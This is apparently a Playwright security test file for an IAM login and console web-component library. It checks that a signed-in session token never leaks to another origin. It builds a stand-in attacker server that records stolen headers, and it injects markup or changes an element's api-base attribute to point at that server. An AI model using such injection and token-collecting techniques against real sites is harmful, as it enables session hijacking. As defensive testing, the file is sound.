// An outside attacker against the elements in token mode, in Chromium: a host page of another
// origin signs in with <iam-login auth-mode="token">, and then something on that page (a script,
// or markup alone: another element) points an element's api-base at a server of the attacker. The
// session token must never reach any origin but the API that issued it.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { Locator, Page } from 'playwright-core';
import { ADMIN, freePort, launchBrowser, openPage, startServer } from './harness';

const hostPort = await freePort();
const host = `http://127.0.0.1:${hostPort}`;
const iam = await startServer({ IAM_CORS_ORIGINS: host });
const browser = await launchBrowser();

/** The attacker's server: lets any page call it with any header (CORS), and records what came. */
const stolen: { url: string; headers: IncomingMessage['headers'] }[] = [];
const evilServer: Server = createServer((request, response) => {
  const cors = {
    'access-control-allow-origin': request.headers.origin ?? '*',
    'access-control-allow-credentials': 'true',
    'access-control-allow-headers': request.headers['access-control-request-headers'] ?? '*',
    'access-control-allow-methods': 'GET, POST, PUT, DELETE',
  };
  if (request.method !== 'OPTIONS') stolen.push({ url: request.url ?? '', headers: request.headers });
  response.writeHead(request.method === 'OPTIONS' ? 204 : 200, { ...cors, 'content-type': 'application/json' });
  response.end(request.method === 'OPTIONS' ? undefined : JSON.stringify({ code: 0, message: 'ok', data: null }));
});
await new Promise<void>((resolve) => evilServer.listen(0, '127.0.0.1', resolve));
const evil = `http://localhost:${(evilServer.address() as { port: number }).port}`;

const pages: Record<string, { body: string; type?: string }> = {
  '/token.html': {
    body: `<!doctype html><title>Shop</title>
<iam-login api-base="${iam.url}/api" auth-mode="token"></iam-login>
<p id="who"></p>
<script type="module" src="/host.js"></script>`,
  },
  '/console.html': {
    body: `<!doctype html><title>Back office</title>
<iam-console api-base="${iam.url}/api" auth-mode="token" routing="memory"></iam-console>
<script type="module" src="${iam.url}/dist/elements.js"></script>`,
  },
  '/host.js': {
    type: 'text/javascript',
    body: `import '${iam.url}/dist/login.js';
import { iamFetch } from '${iam.url}/dist/core.js';
window.iamFetch = iamFetch;
document.querySelector('iam-login').addEventListener('iam-login-success', async (event) => {
  event.preventDefault();
  const answer = await (await iamFetch('/cas/session')).json();
  document.querySelector('#who').textContent = answer.data.user.username;
});`,
  },
};

const hostServer: Server = createServer((request, response) => {
  const page = pages[new URL(request.url ?? '/', host).pathname];
  if (!page) return void response.writeHead(404).end();
  response.writeHead(200, { 'content-type': page.type ?? 'text/html; charset=utf-8' });
  response.end(page.body);
});
await new Promise<void>((resolve) => hostServer.listen(hostPort, '127.0.0.1', resolve));

after(async () => {
  await browser.close();
  await iam.stop();
  await new Promise((resolve) => hostServer.close(resolve));
  await new Promise((resolve) => evilServer.close(resolve));
});

/** A page of the host signed in with <iam-login> in token mode. */
async function signedInHostPage() {
  const watched = await openPage(browser, { expectedFailures: [/.*/] });
  await watched.page.goto(`${host}/token.html`);
  await watched.page.getByLabel('Username').fill(ADMIN.username);
  await watched.page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
  await watched.page.getByRole('button', { name: 'Sign in' }).click();
  await watched.page.locator('#who').filter({ hasText: ADMIN.username }).waitFor();
  return watched;
}

/** What reached the attacker's server carrying a value of the session token's header (`token`). */
const tokensStolen = () =>
  stolen.filter((request) => typeof request.headers.token === 'string' && request.headers.token.length > 0).map((request) => request.url);

test('markup alone: a second <iam-login> with another api-base does not carry the signed-in token to that server', async () => {
  stolen.length = 0;
  const { page, context } = await signedInHostPage();
  try {
    // Markup injected into the host page (a comment field, a CMS block): no script of the attacker runs.
    await page.evaluate((base) => document.body.insertAdjacentHTML('beforeend', `<iam-login api-base="${base}/api" auth-mode="token"></iam-login>`), evil);
    await page.locator('iam-login').nth(1).getByLabel('Username').waitFor();
    // The new element reads its sign-in settings from its API: whatever it sent has arrived.
    for (let tries = 0; tries < 30 && !stolen.length; tries += 1) await new Promise((resolve) => setTimeout(resolve, 100));
    assert.deepEqual(tokensStolen(), [], 'the session token was sent to another origin');
  } finally {
    await context.close();
  }
});

test('an api-base changed after the sign-in does not carry the token to the new origin', async () => {
  stolen.length = 0;
  const { page, context } = await signedInHostPage();
  try {
    await page.evaluate((base) => document.querySelector('iam-login')!.setAttribute('api-base', `${base}/api`), evil);
    await page.evaluate(() => (window as unknown as { iamFetch: (path: string) => Promise<Response> }).iamFetch('/user/profile').catch(() => undefined));
    assert.deepEqual(tokensStolen(), [], 'the session token was sent to another origin');
  } finally {
    await context.close();
  }
});

/** The first line of the file a click on `link` downloads. */
async function downloadedHeader(page: Page, link: Locator): Promise<string> {
  const download = page.waitForEvent('download');
  await link.click();
  let text = '';
  for await (const chunk of await (await download).createReadStream()) text += String(chunk);
  return text.replace(/^\uFEFF/, '').split('\r\n')[0] ?? '';
}

test('token mode: the audit log’s Export CSV downloads the log with the session, not a refusal; so does the user list’s Export', async () => {
  const { page, context } = await openPage(browser, { expectedFailures: [/.*/] });
  try {
    await page.goto(`${host}/console.html`);
    await page.getByLabel('Username').fill(ADMIN.username);
    await page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('link', { name: 'Audit log' }).first().click();
    const exported = page.waitForRequest((request) => request.url().includes('/api/audit/export'));
    const header = downloadedHeader(page, page.getByRole('link', { name: 'Export CSV' }));
    const response = await (await exported).response();
    assert.equal(response?.status(), 200, `the export answered ${response?.status()}: ${await response?.text().catch(() => '')}`);
    assert.match(await header, /^time,actor,event,/, 'the file saved is the log');
    await page.getByRole('link', { name: 'Users' }).first().click();
    assert.match(await downloadedHeader(page, page.getByRole('link', { name: 'Export', exact: true })), /^username,realName,/);
  } finally {
    await context.close();
  }
});
